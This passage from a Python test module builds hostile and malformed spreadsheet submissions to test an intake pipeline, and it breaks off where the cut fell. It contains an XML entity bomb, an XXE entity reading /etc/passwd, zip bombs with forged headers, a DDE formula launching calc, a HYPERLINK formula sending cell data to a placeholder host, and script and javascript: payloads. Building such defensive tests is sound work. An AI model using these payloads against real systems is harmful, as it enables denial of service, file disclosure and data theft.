"""A named corpus of hostile and careless input: one builder per case, and the expected outcome.

Every builder gets a `Kit` (a fresh inbox, real templates, helpers) and writes one or
more files into the inbox; it returns the name (inside the inbox) of the file whose
outcome the case is about. `CASES` pairs each builder with the state collect must give
that file and the exact set of problem codes it must report. `tests/test_corpus.py`
runs them; `docs/korpus.md` lists them.

Files get an old modification time (so they are not "waiting") unless the builder sets
one itself with `Kit.touch`.
"""

from __future__ import annotations

import datetime as dt
import os
import re
import shutil
import struct
import subprocess
import tempfile
import time
import unicodedata
import zipfile
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path, PurePosixPath
from typing import Any
from xml.etree import ElementTree

import openpyxl
from openpyxl.workbook.workbook import Workbook

from pipeline import contract as c
from pipeline.config import MAX_PROBLEMS_PER_CODE
from pipeline.plan import Plan
from pipeline.sniff import OLE2_SIGNATURE
from tests.workbooks import GOOD_ACTION as GOOD
from tests.workbooks import fill_workbook

YEAR = 2027
AS_OF = dt.date(2027, 3, 1)
OLD = 1_790_000_000
"""2026-09-21: the default modification time, long before the run."""
MIB = 1024 * 1024
QUIET = 2.0
"""The quiet period (seconds) of the cases that run collect twice."""

CONCERNS = {"1.3": "Ja"}
SOFFICE = shutil.which("soffice")
"""LibreOffice, which saves the .ods and .xls cases; those cases are skipped without it."""

_NS = {
    "main": "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
    "rel": "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
    "pkg": "http://schemas.openxmlformats.org/package/2006/relationships",
}


# --- the kit -------------------------------------------------------------------------------


@dataclass
class Kit:
    """What a builder works with: the inbox, real templates and the expectations it records.

    Attributes:
        plan: the real plan.
        inbox: the empty inbox to drop files into.
        work: a scratch folder outside the inbox.
        templates: returns the real template for (förvaltning, year), cached by the caller.
        mtimes: modification times the builder chose; every other file gets OLD.
        kept: (column, Excel row) → the value the validated Åtgärder table must hold there.
        in_force: förvaltning → the file name that must be in force after the run.
    """

    plan: Plan
    inbox: Path
    work: Path
    templates: Callable[[str, int], Path]
    mtimes: dict[Path, float] = field(default_factory=dict)
    kept: dict[tuple[str, int], Any] = field(default_factory=dict)
    in_force: dict[str, str] = field(default_factory=dict)
    options: dict[str, Any] = field(default_factory=dict)
    """Settings for the run other than the default ones (e.g. quiet_seconds)."""
    between: list[Callable[[Kit], None]] = field(default_factory=list)
    """Steps between two runs: when set, collect runs once, then each step, then collect again;
    the case is about the second run."""
    checks: list[Callable[[Any], None]] = field(default_factory=list)
    """Further checks of the subject's FileReport after the (last) run."""

    def template(self, code: str = "SOC", year: int = YEAR) -> Path:
        """Returns the real, empty template of one förvaltning."""
        return self.templates(code, year)

    def filled(
        self,
        name: str,
        actions: Sequence[Mapping[str, Any]] = (GOOD,),
        *,
        code: str = "SOC",
        year: int = YEAR,
        concerns: Mapping[str, str] | None = None,
        edit: Callable[[Workbook], None] | None = None,
        scratch: bool = False,
    ) -> Path:
        """Writes a filled template (inbox, or scratch) and returns it; `edit` changes it as in Excel."""
        target = (self.work if scratch else self.inbox) / name
        fill_workbook(
            self.template(code, year),
            target,
            actions=actions,
            concerns=CONCERNS if concerns is None else concerns,
        )
        if edit is not None:
            wb = openpyxl.load_workbook(target)
            edit(wb)
            wb.save(target)
        return target

    def write(self, name: str, data: bytes | str) -> Path:
        """Writes raw bytes (or UTF-8 text) into the inbox and returns the path."""
        path = self.inbox / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        return path

    def repacked(self, name: str, changes: Mapping[str, bytes | None], source: Path | None = None) -> Path:
        """Writes a copy of a valid submission with zip members replaced, added or (None) removed."""
        source = source or self.filled("_källa.xlsx", scratch=True)
        members = {**members_of(source), **changes}
        return write_zip(self.inbox / name, {k: v for k, v in members.items() if v is not None})

    def touch(self, path: Path, mtime: float) -> None:
        """Gives a file this modification time instead of OLD."""
        self.mtimes[path] = mtime

    def settle(self) -> None:
        """Gives every file in the inbox its chosen modification time, or OLD (as before a run)."""
        for path in self.inbox.rglob("*"):
            if path.is_file():
                mtime = self.mtimes.get(path, OLD)
                os.utime(path, (mtime, mtime))


def libreoffice_copy(source: Path, kind: str, folder: Path) -> Path:
    """Returns `source` as LibreOffice saves it as `kind` ("ods", "xls") in `folder`.

    LibreOffice runs headless in a Swedish locale (so an .ods keeps numbers as a Swedish
    user saw them), with a profile of its own per call, so that calls never share a lock.
    The file is saved under the source's name with the new suffix.
    """
    if SOFFICE is None:
        raise RuntimeError("LibreOffice (soffice) is not installed")
    folder.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory(prefix="lo-profile-") as profile:
        # The Swedish locale is not installed here: a non-ASCII file name would not survive it.
        plain = Path(profile) / f"source{source.suffix}"
        shutil.copyfile(source, plain)
        subprocess.run(
            [
                SOFFICE,
                f"-env:UserInstallation={(Path(profile) / 'profil').as_uri()}",
                "--headless",
                "--convert-to",
                kind,
                "--outdir",
                str(profile),
                str(plain),
            ],
            check=True,
            capture_output=True,
            timeout=180,
            env={**os.environ, "LC_ALL": "sv_SE.UTF-8", "LANG": "sv_SE.UTF-8"},
        )
        return Path(shutil.move(plain.with_suffix(f".{kind}"), folder / f"{source.stem}.{kind}"))


Builder = Callable[[Kit], str]


@dataclass(frozen=True)
class Case:
    """One corpus case: how to build it and what collect must make of it.

    `expected_codes` is the exact set of problem codes check_submission reports (empty for
    files that are never checked: ignored, waiting, duplicate). `department`, when set, is
    the förvaltning the outcome must name.
    """

    name: str
    builder: Builder
    expected_state: str
    expected_codes: frozenset[str] = frozenset()
    slow: bool = False
    department: str | None = None
    libreoffice: bool = False
    """The case is saved by LibreOffice (skipped where it is not installed)."""

    @property
    def about(self) -> str:
        """Returns the builder's one-line description."""
        return (self.builder.__doc__ or "").strip().splitlines()[0]


# --- zip helpers -----------------------------------------------------------------------------


def members_of(path: Path) -> dict[str, bytes]:
    """Returns the members of a zip by name, in order."""
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def write_zip(path: Path, members: Mapping[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> Path:
    """Writes `members` to a new zip at `path` and returns `path`."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def write_zeros(archive: zipfile.ZipFile, name: str, size: int) -> None:
    """Streams `size` zero bytes into a new member, a MiB at a time."""
    block = bytes(MIB)
    with archive.open(name, "w", force_zip64=True) as member:
        for _ in range(size // MIB):
            member.write(block)


def patch_sizes(path: Path, name: str, file_size: int) -> None:
    """Rewrites the uncompressed size of one member in both its local and its directory header."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        local = archive.getinfo(name).header_offset
    struct.pack_into("<L", data, local + 22, file_size)
    directory = data.find(b"PK\x01\x02")
    while data[directory + 46 : directory + 46 + len(name)] != name.encode():
        directory = data.find(b"PK\x01\x02", directory + 4)
    struct.pack_into("<L", data, directory + 24, file_size)
    path.write_bytes(bytes(data))


def sheet_part(path: Path, sheet: str) -> str:
    """Returns the zip member holding a sheet, e.g. "xl/worksheets/sheet3.xml"."""
    with zipfile.ZipFile(path) as archive:
        rels = ElementTree.fromstring(archive.read("xl/_rels/workbook.xml.rels"))
        workbook = ElementTree.fromstring(archive.read("xl/workbook.xml"))
    targets = {r.get("Id"): r.get("Target", "") for r in rels.iter(f"{{{_NS['pkg']}}}Relationship")}
    for element in workbook.iter(f"{{{_NS['main']}}}sheet"):
        if element.get("name") == sheet:
            target = targets[element.get(f"{{{_NS['rel']}}}id")]
            return target.lstrip("/") if target.startswith("/") else str(PurePosixPath("xl") / target)
    raise KeyError(sheet)


def _with_rows(kit: Kit, name: str, rows: Callable[[], Any], compresslevel: int = 1) -> Path:
    """Writes a valid submission whose Åtgärder sheet gets extra <row> XML (from `rows()`) at its end."""
    source = kit.filled("_källa.xlsx", scratch=True)
    part = sheet_part(source, c.SHEET_ACTIONS)
    members = members_of(source)
    head, tail = members[part].split(b"</sheetData>")
    target = kit.inbox / name
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=compresslevel) as archive:
        for member, data in members.items():
            if member != part:
                archive.writestr(member, data)
        with archive.open(part, "w", force_zip64=True) as stream:
            stream.write(head)
            for chunk in rows():
                stream.write(chunk)
            stream.write(b"</sheetData>" + tail)
    return target


def _identification_changed(kit: Kit, name: str, key: str, value: str) -> Path:
    """Writes a valid submission whose identification `key` says `value` (property and sheet)."""
    source = kit.filled("_källa.xlsx", scratch=True)
    wb = openpyxl.load_workbook(source)
    sheet = wb[c.SHEET_IDENTIFICATION]
    for row in sheet.iter_rows():
        if row[0].value == key:
            row[1].value = value
    wb.save(source)
    members = members_of(source)
    custom = members["docProps/custom.xml"].decode("utf-8")
    custom = re.sub(
        # openpyxl writes <vt:lpwstr xmlns:vt=…> when lxml is installed, <vt:lpwstr> without it.
        rf'(name="{key}"[^>]*>\s*<vt:lpwstr[^>]*>)[^<]*(</vt:lpwstr>)',
        lambda m: m.group(1) + value + m.group(2),
        custom,
    )
    return kit.repacked(name, {"docProps/custom.xml": custom.encode("utf-8")}, source)


def _columns(ws: Any) -> dict[str, int]:
    return {cell.value: cell.column for cell in ws[1] if cell.value}


# --- hostile: the bytes ----------------------------------------------------------------------

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE sst [\n<!ENTITY a "aaaaaaaaaa">\n'
    + b"".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">\n'.encode() for i in range(9))
    + b']>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&j;</t></si></sst>'
)


def entity_bomb_in_shared_strings(kit: Kit) -> str:
    """xl/sharedStrings.xml with a 'billion laughs' entity bomb (DTD with nested entities)."""
    kit.repacked("bomb.xlsx", {"xl/sharedStrings.xml": BILLION_LAUGHS})
    return "bomb.xlsx"


def xxe_in_custom_properties(kit: Kit) -> str:
    """docProps/custom.xml with an external entity that would read /etc/passwd (XXE)."""
    source = kit.filled("_källa.xlsx", scratch=True)
    custom = members_of(source)["docProps/custom.xml"]
    declaration, _, rest = custom.partition(b"?>")
    evil = declaration + b'?>\n<!DOCTYPE Properties [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + rest
    evil = re.sub(rb"(<vt:lpwstr[^>]*>)SOC(</vt:lpwstr>)", rb"\1&xxe;\2", evil)  # any openpyxl writer
    kit.repacked("xxe.xlsx", {"docProps/custom.xml": evil}, source)
    return "xxe.xlsx"


def zip_bomb_lying_header(kit: Kit) -> str:
    """A 64 MiB part of zeros whose zip headers claim it unpacks to 1000 bytes."""
    source = kit.filled("_källa.xlsx", scratch=True)
    path = kit.inbox / "ljuger.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in members_of(source).items():
            archive.writestr(name, data)
        write_zeros(archive, "xl/worksheets/sheet99.xml", 64 * MIB)
    patch_sizes(path, "xl/worksheets/sheet99.xml", 1000)
    return path.name


def zip_bomb_300_mib(kit: Kit) -> str:
    """A workbook with a 300 MiB part of zeros (packed to about 300 KiB)."""
    source = kit.filled("_källa.xlsx", scratch=True)
    path = kit.inbox / "bomb300.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in members_of(source).items():
            archive.writestr(name, data)
        write_zeros(archive, "xl/worksheets/sheet99.xml", 300 * MIB)
    return path.name


def zip_bomb_in_worksheet(kit: Kit) -> str:
    """The Åtgärder sheet replaced by 300 MiB of well-formed XML (empty rows) packed to ~1 MiB."""
    source = kit.filled("_källa.xlsx", scratch=True)
    part = sheet_part(source, c.SHEET_ACTIONS)
    path = kit.inbox / "bomb_blad.xlsx"
    block = b"<row/>" * (MIB // 6)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in members_of(source).items():
            if name != part:
                archive.writestr(name, data)
        with archive.open(part, "w", force_zip64=True) as stream:
            stream.write(f'<worksheet xmlns="{_NS["main"]}"><sheetData>'.encode())
            for _ in range(300):
                stream.write(block)
            stream.write(b"</sheetData></worksheet>")
    return path.name


def too_many_members(kit: Kit) -> str:
    """A valid workbook padded with 1 200 tiny extra parts."""
    extra: dict[str, bytes | None] = {f"xl/media/image{i}.png": b"x" for i in range(1200)}
    kit.repacked("delar.xlsx", extra)
    return "delar.xlsx"


def not_a_zip(kit: Kit) -> str:
    """Binary garbage with an .xlsx name."""
    kit.write("okänd.xlsx", bytes(range(256)) * 4)
    return "okänd.xlsx"


def zero_bytes(kit: Kit) -> str:
    """An empty file (0 bytes)."""
    kit.write("tom.xlsx", b"")
    return "tom.xlsx"


def truncated(kit: Kit) -> str:
    """The first half of a valid workbook (an interrupted copy, old enough to judge)."""
    data = kit.filled("_källa.xlsx", scratch=True).read_bytes()
    kit.write("halv.xlsx", data[: len(data) // 2])
    return "halv.xlsx"


def corrupt_member(kit: Kit) -> str:
    """A stored (uncompressed) workbook with one flipped byte in xl/workbook.xml: CRC error."""
    source = kit.filled("_källa.xlsx", scratch=True)
    path = write_zip(kit.inbox / "crc.xlsx", members_of(source), zipfile.ZIP_STORED)
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo("xl/workbook.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    data[start + 10] ^= 0x01
    path.write_bytes(bytes(data))
    return path.name


def password_protected(kit: Kit) -> str:
    """An encrypted workbook: an OLE2 file with an EncryptionInfo stream."""
    kit.write(
        "skyddad.xlsx", OLE2_SIGNATURE + bytes(512) + "EncryptionInfo".encode("utf-16-le") + bytes(4096)
    )
    return "skyddad.xlsx"


def _saved_by_libreoffice(kit: Kit, name: str, kind: str, source: Path) -> str:
    """Saves `source` with LibreOffice as `kind` into the inbox under `name`; returns `name`."""
    saved = libreoffice_copy(source, kind, kit.work / f"lo-{kind}")
    target = kit.inbox / name
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.move(saved, target)
    return name


def _percent_target(wb: Workbook) -> None:
    """Målvärde typed as 75 % (a number with a percent format), Utfall as 1 500 (thousands)."""
    ws = wb[c.SHEET_ACTIONS]
    cols = _columns(ws)
    ws.cell(2, cols[c.TARGET]).value = 0.75
    ws.cell(2, cols[c.TARGET]).number_format = "0%"
    ws.cell(2, cols[c.OUTCOME]).value = 1500
    ws.cell(2, cols[c.OUTCOME]).number_format = "#,##0"


def xls_from_template(kit: Kit) -> str:
    """The filled template saved as .xls (Excel 97-2003) by LibreOffice: read and checked like .xlsx."""
    source = kit.filled("_källa.xlsx", edit=_percent_target, scratch=True)
    kit.kept[(c.ACTION, 2)] = GOOD[c.ACTION]
    kit.kept[(c.START, 2)] = dt.date(2027, 1, 10)
    kit.kept[(c.OUTCOME, 2)] = "1500"  # an .xls's number formats are not read: shown as General
    return _saved_by_libreoffice(kit, "handlingsplan.xls", "xls", source)


def xls_without_identity(kit: Kit) -> str:
    """A workbook of the förvaltning's own making, saved as .xls by LibreOffice."""
    return _saved_by_libreoffice(kit, "egen.xls", "xls", _own_workbook(kit.work / "egen.xlsx"))


def password_protected_xls(kit: Kit) -> str:
    """An .xls with a password to open: a FILEPASS record right after the workbook's BOF."""
    bof = bytes.fromhex("0908100000060500") + bytes(12)
    names = "Workbook".encode("utf-16-le").ljust(512, b"\0")
    stream = (bof + bytes.fromhex("2f00") + bytes(64)).ljust(4096, b"\0")
    kit.write("skyddad.xls", OLE2_SIGNATURE + bytes(504) + names + stream)
    return "skyddad.xls"


def ods_from_template(kit: Kit) -> str:
    """The filled template saved as .ods by LibreOffice (Swedish): numbers kept as shown, "75 %"."""
    source = kit.filled("_källa.xlsx", edit=_percent_target, scratch=True)
    kit.kept[(c.ACTION, 2)] = GOOD[c.ACTION]
    kit.kept[(c.TARGET, 2)] = "75 %"
    kit.kept[(c.OUTCOME, 2)] = "1 500"
    kit.kept[(c.DONE, 2)] = dt.date(2027, 12, 31)
    return _saved_by_libreoffice(kit, "handlingsplan.ods", "ods", source)


def ods_renamed_to_xlsx(kit: Kit) -> str:
    """A LibreOffice spreadsheet (.ods) of the filled template renamed to .xlsx: the bytes decide."""
    _saved_by_libreoffice(kit, "kalkyl.ods", "ods", kit.filled("_källa.xlsx", scratch=True))
    (kit.inbox / "kalkyl.ods").rename(kit.inbox / "kalkyl.xlsx")
    kit.kept[(c.ACTION, 2)] = GOOD[c.ACTION]
    return "kalkyl.xlsx"


def ods_without_identity(kit: Kit) -> str:
    """A workbook of the förvaltning's own making, saved as .ods by LibreOffice."""
    return _saved_by_libreoffice(kit, "egen.ods", "ods", _own_workbook(kit.work / "egen.xlsx"))


def csv_renamed(kit: Kit) -> str:
    """A semicolon-separated text file (cp1252) renamed to .xlsx."""
    kit.write("data.xlsx", "Delmål;Åtgärd;Ansvarig\n1.3;Språkcafé;Enhetschef\n".encode("cp1252"))
    return "data.xlsx"


def html_renamed(kit: Kit) -> str:
    """A web page (an 'Excel' HTML export) renamed to .xlsx."""
    kit.write(
        "webb.xlsx", "\ufeff<!DOCTYPE html>\n<html><body><table><tr><td>1.3</td></tr></table></body></html>"
    )
    return "webb.xlsx"


def xlsm_with_macros(kit: Kit) -> str:
    """A macro-enabled workbook (.xlsm with xl/vbaProject.bin)."""
    kit.repacked("makro.xlsm", {"xl/vbaProject.bin": b"\x00" * 64})
    return "makro.xlsm"


def external_links(kit: Kit) -> str:
    """A valid submission that also carries links to other workbooks (xl/externalLinks)."""
    kit.repacked("länkar.xlsx", {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"})
    return "länkar.xlsx"


def hyperlink_to_local_file(kit: Kit) -> str:
    """A cell with a hyperlink to file:///C:/Windows/System32/cmd.exe; never followed, text kept."""

    def edit(wb: Workbook) -> None:
        cell = wb[c.SHEET_ACTIONS].cell(2, _columns(wb[c.SHEET_ACTIONS])[c.COMMENT])
        cell.value = "Se vår lokala fil"
        cell.hyperlink = "file:///C:/Windows/System32/cmd.exe"

    kit.filled("länk.xlsx", edit=edit)
    kit.kept[(c.COMMENT, 2)] = "Se vår lokala fil"
    return "länk.xlsx"


def million_rows(kit: Kit) -> str:
    """A million filled rows in Åtgärder (written straight into the sheet XML)."""

    def rows() -> Any:
        for start in range(302, 1_000_302, 10_000):
            yield "".join(
                f'<row r="{r}"><c r="C{r}" t="inlineStr"><is><t>Åtgärd {r}</t></is></c></row>'
                for r in range(start, start + 10_000)
            ).encode()

    return _with_rows(kit, "miljon.xlsx", rows).name


def styled_empty_rows_to_100000(kit: Kit) -> str:
    """Formatting (a style, no values) on every row of Åtgärder down to row 100 000."""

    def rows() -> Any:
        for start in range(302, 100_001, 10_000):
            yield "".join(
                f'<row r="{r}" s="1" customFormat="1">' + f'<c r="A{r}" s="1"/><c r="N{r}" s="1"/></row>'
                for r in range(start, min(start + 10_000, 100_001))
            ).encode()

    return _with_rows(kit, "formaterad.xlsx", rows).name


# --- injection: text that looks like code must be kept exactly, never run ----------------------


def _text_case(
    kit: Kit, name: str, texts: Mapping[str, str], xml_texts: Mapping[str, str] | None = None
) -> str:
    """Writes one GOOD action per text, the text in Kommentar (stored as text), and expects it kept."""
    actions = [GOOD for _ in texts]

    def edit(wb: Workbook) -> None:
        ws = wb[c.SHEET_ACTIONS]
        column = _columns(ws)[c.COMMENT]
        for offset, text in enumerate((xml_texts or texts).values()):
            cell = ws.cell(2 + offset, column)
            cell.value = text
            cell.data_type = "s"  # a typed "=1+1" is text, not a formula

    kit.filled(name, actions, edit=edit)
    for offset, text in enumerate(texts.values()):
        kit.kept[(c.COMMENT, 2 + offset)] = text
    return name


def injection_formula_prefixes(kit: Kit) -> str:
    """Text starting with = + - @ (CSV/formula injection), e.g. =HYPERLINK(...), kept as text."""
    return _text_case(
        kit,
        "formel.xlsx",
        {
            "eq": '=HYPERLINK("http://example.invalid/?d="&A1;"Klicka")',
            "cmd": "=cmd|' /C calc'!A0",
            "plus": "+46 70 123 45 67",
            "minus": "-2+3",
            "at": "@SUM(1+1)",
        },
    )


def injection_tab_and_cr(kit: Kit) -> str:
    """Text with a leading tab, an inner tab, a line feed and a carriage return (Excel's _x000D_)."""
    return _text_case(
        kit,
        "styrtecken.xlsx",
        {"tab": "\t=1+1", "inner": "rad ett\trad två", "lf": "rad ett\nrad två", "cr": "rad ett\rrad två"},
        {
            "tab": "\t=1+1",
            "inner": "rad ett\trad två",
            "lf": "rad ett\nrad två",
            "cr": "rad ett_x000D_rad två",
        },
    )


def injection_urls(kit: Kit) -> str:
    """Plain URLs and a javascript: URL in text."""
    return _text_case(
        kit,
        "url.xlsx",
        {
            "http": "https://example.invalid/login?next=//evil",
            "js": "javascript:alert(document.cookie)",
            "file": "file:///etc/passwd",
        },
    )


def injection_script_tag(kit: Kit) -> str:
    """<script> and HTML attributes in text (shown in the HTML feedback: must be escaped)."""
    return _text_case(
        kit,
        "script.xlsx",
        {"script": "<script>alert('x')</script>", "img": '<img src=x onerror="alert(1)">&amp;'},
    )


def injection_markdown(kit: Kit) -> str:
    """Markdown link, image and table pipes in text (the Markdown summary must not break)."""
    return _text_case(
        kit,
        "markdown.xlsx",
        {
            "link": "[klicka här](https://example.invalid)",
            "image": "![](https://example.invalid/pixel.png)",
            "pipes": "| a | b |\n|---|---|",
            "heading": "# Rubrik **fet** `kod`",
        },
    )


# --- careless: what people do to a template ---------------------------------------------------


def renamed_file(kit: Kit) -> str:
    """A valid submission saved under an odd name in a subfolder."""
    kit.filled("SOC/Kopia av handlingsplan (2) SLUTLIG.xlsx")
    return "SOC/Kopia av handlingsplan (2) SLUTLIG.xlsx"


def _rebuild_actions(wb: Workbook, order: Sequence[str | None]) -> None:
    """Rewrites Åtgärder's header and filled rows with the columns in `order` (None: blank column)."""
    ws = wb[c.SHEET_ACTIONS]
    cols = _columns(ws)
    rows = [[ws.cell(r, cols[n]).value if n else None for n in order] for r in range(1, ws.max_row + 1)]
    ws.delete_cols(1, ws.max_column)
    for r, values in enumerate(rows, start=1):
        for col, value in enumerate(values, start=1):
            ws.cell(r, col).value = value


def moved_columns(kit: Kit) -> str:
    """Åtgärder's columns in reverse order."""
    kit.filled("flyttade.xlsx", edit=lambda wb: _rebuild_actions(wb, list(reversed(c.ACTION_COLUMNS))))
    kit.kept[(c.ACTION, 2)] = GOOD[c.ACTION]
    kit.kept[(c.COST, 2)] = 5000.0
    return "flyttade.xlsx"


def deleted_optional_column(kit: Kit) -> str:
    """The optional column Samverkan deleted."""
    order = [n for n in c.ACTION_COLUMNS if n != c.PARTNERS]
    kit.filled("utan_samverkan.xlsx", edit=lambda wb: _rebuild_actions(wb, order))
    return "utan_samverkan.xlsx"


def deleted_required_column(kit: Kit) -> str:
    """The required column Ansvarig deleted."""
    order = [n for n in c.ACTION_COLUMNS if n != c.OWNER]
    kit.filled("utan_ansvarig.xlsx", edit=lambda wb: _rebuild_actions(wb, order))
    return "utan_ansvarig.xlsx"


def duplicated_column(kit: Kit) -> str:
    """The column Åtgärd twice (a copied column); the first is read."""
    kit.filled("dubbel_kolumn.xlsx", edit=lambda wb: _rebuild_actions(wb, [*c.ACTION_COLUMNS, c.ACTION]))
    return "dubbel_kolumn.xlsx"


def extra_column(kit: Kit) -> str:
    """An extra column "Egen anteckning" after Kommentar."""

    def edit(wb: Workbook) -> None:
        ws = wb[c.SHEET_ACTIONS]
        ws.cell(1, len(c.ACTION_COLUMNS) + 1).value = "Egen anteckning"
        ws.cell(2, len(c.ACTION_COLUMNS) + 1).value = "bara för oss"

    kit.filled("extra_kolumn.xlsx", edit=edit)
    return "extra_kolumn.xlsx"


def renamed_sheet_atgarder(kit: Kit) -> str:
    """The sheet Åtgärder renamed to "Åtgärder 2027"."""

    def edit(wb: Workbook) -> None:
        wb[c.SHEET_ACTIONS].title = "Åtgärder 2027"

    kit.filled("bytt_blad.xlsx", edit=edit)
    return "bytt_blad.xlsx"


def deleted_sheet_delmal(kit: Kit) -> str:
    """The sheet Delmål deleted."""

    def edit(wb: Workbook) -> None:
        del wb[c.SHEET_GOALS]

    kit.filled("utan_delmal.xlsx", edit=edit)
    return "utan_delmal.xlsx"


def title_row_above_header(kit: Kit) -> str:
    """Two rows inserted above Åtgärder's header (a title and a blank line)."""

    def edit(wb: Workbook) -> None:
        ws = wb[c.SHEET_ACTIONS]
        ws.insert_rows(1, 2)
        ws["A1"] = "Socialförvaltningens åtgärder 2027"

    kit.filled("rubrik.xlsx", edit=edit)
    kit.kept[(c.ACTION, 4)] = GOOD[c.ACTION]
    return "rubrik.xlsx"


def merged_cells_in_table(kit: Kit) -> str:
    """Ansvarig and Status merged over two actions' rows (the value shows in both)."""
    second = {**GOOD, c.ACTION: "Läxhjälp", c.OWNER: None, c.STATUS: None}

    def edit(wb: Workbook) -> None:
        ws = wb[c.SHEET_ACTIONS]
        cols = _columns(ws)
        for name in (c.OWNER, c.STATUS):
            letter = openpyxl.utils.get_column_letter(cols[name])
            ws.merge_cells(f"{letter}2:{letter}3")

    kit.filled("sammanslagna.xlsx", [GOOD, second], edit=edit)
    kit.kept[(c.OWNER, 3)] = GOOD[c.OWNER]
    kit.kept[(c.STATUS, 3)] = GOOD[c.STATUS]
    return "sammanslagna.xlsx"


def dates_as_iso_text(kit: Kit) -> str:
    """Dates typed as text in ISO form (2027-03-01, with a time of 00:00, with spaces)."""
    texts = ["2027-03-01", "2027-03-01 00:00:00", " 2027-03-01 "]
    kit.filled("iso.xlsx", [{**GOOD, c.START: t} for t in texts])
    for row in range(2, 2 + len(texts)):
        kit.kept[(c.START, row)] = dt.date(2027, 3, 1)
    return "iso.xlsx"


def dates_as_text_other_formats(kit: Kit) -> str:
    """Dates typed as text in ambiguous or spelled-out forms (1/3/2027, 1 mars 2027, 20270301 ...)."""
    texts = ["1/3/2027", "01.03.2027", "1 mars 2027", "20270301", "mars 2027", "2027-02-30"]
    kit.filled("datumtext.xlsx", [{**GOOD, c.START: t} for t in texts])
    return "datumtext.xlsx"


def dates_as_serial_1900(kit: Kit) -> str:
    """Dates as bare serial numbers (46447 = 2027-03-01) in the 1900 date system, no date format."""

    def edit(wb: Workbook) -> None:
        ws = wb[c.SHEET_ACTIONS]
        cell = ws.cell(2, _columns(ws)[c.START])
        cell.value = 46447
        cell.number_format = "General"

    kit.filled("serie1900.xlsx", edit=edit)
    kit.kept[(c.START, 2)] = dt.date(2027, 3, 1)
    return "serie1900.xlsx"


def dates_as_serial_1904(kit: Kit) -> str:
    """A workbook in the 1904 date system (old Mac Excel): a bare serial 44985 and a real date."""

    def edit(wb: Workbook) -> None:
        wb.epoch = openpyxl.utils.datetime.CALENDAR_MAC_1904
        ws = wb[c.SHEET_ACTIONS]
        cols = _columns(ws)
        ws.cell(2, cols[c.START]).value = 44985  # 1904-01-01 + 44985 days
        ws.cell(2, cols[c.START]).number_format = "General"
        ws.cell(2, cols[c.DONE]).value = dt.datetime(2027, 12, 31)

    kit.filled("serie1904.xlsx", edit=edit)
    kit.kept[(c.START, 2)] = dt.date(2027, 3, 1)
    kit.kept[(c.DONE, 2)] = dt.date(2027, 12, 31)
    return "serie1904.xlsx"


def costs_with_separators_and_units(kit: Kit) -> str:
    """Costs typed as text with thousands separators and units: "5 000 kr", "12.500:-", "1 000,50 SEK"."""
    costs = {"5 000 kr": 5000.0, "12.500:-": 12500.0, "1 000,50 SEK": 1000.5, "7\u00a0500 kronor": 7500.0}
    kit.filled("kostnad.xlsx", [{**GOOD, c.COST: text} for text in costs])
    for row, value in enumerate(costs.values(), start=2):
        kit.kept[(c.COST, row)] = value
    return "kostnad.xlsx"


def costs_with_words(kit: Kit) -> str:
    """Costs with words or scales: "ca 5000 kr", "5 tkr", "5000-10000"."""
    kit.filled("kostnad_ord.xlsx", [{**GOOD, c.COST: t} for t in ("ca 5000 kr", "5 tkr", "5000-10000")])
    return "kostnad_ord.xlsx"


def hidden_or_filtered_rows(kit: Kit) -> str:
    """A filter on Åtgärder hiding row 3 and a hidden row 4: hidden rows are still read."""
    actions = [GOOD, {**GOOD, c.ACTION: "Dold rad"}, {**GOOD, c.ACTION: "Gömd rad"}]

    def edit(wb: Workbook) -> None:
        ws = wb[c.SHEET_ACTIONS]
        ws.auto_filter.ref = "A1:N4"
        ws.row_dimensions[3].hidden = True
        ws.row_dimensions[4].hidden = True

    kit.filled("filter.xlsx", actions, edit=edit)
    kit.kept[(c.ACTION, 3)] = "Dold rad"
    kit.kept[(c.ACTION, 4)] = "Gömd rad"
    return "filter.xlsx"


def _formula_cost(kit: Kit, name: str, saved: bool) -> str:
    def edit(wb: Workbook) -> None:
        ws = wb[c.SHEET_ACTIONS]
        ws.cell(2, _columns(ws)[c.COST]).value = "=1000*5"

    source = kit.filled("_formel.xlsx", edit=edit, scratch=True)
    part = sheet_part(source, c.SHEET_ACTIONS)
    xml = members_of(source)[part]
    if saved:
        xml, found = re.subn(
            rb"(<c r=\"G2\"[^>]*>)<f>1000\*5</f>(?:<v\s*/>|<v></v>)?", rb"\1<f>1000*5</f><v>5000</v>", xml
        )
        assert found == 1
    kit.repacked(name, {part: xml}, source)
    return name


def formula_with_saved_value(kit: Kit) -> str:
    """Kostnad as a formula =1000*5 with its saved result 5000 (as Excel saves it)."""
    kit.kept[(c.COST, 2)] = 5000.0
    return _formula_cost(kit, "formel_sparad.xlsx", saved=True)


def formula_without_saved_value(kit: Kit) -> str:
    """Kostnad as a formula =1000*5 without a saved result (written by a program, never opened)."""
    return _formula_cost(kit, "formel_osparad.xlsx", saved=False)


def another_departments_template(kit: Kit) -> str:
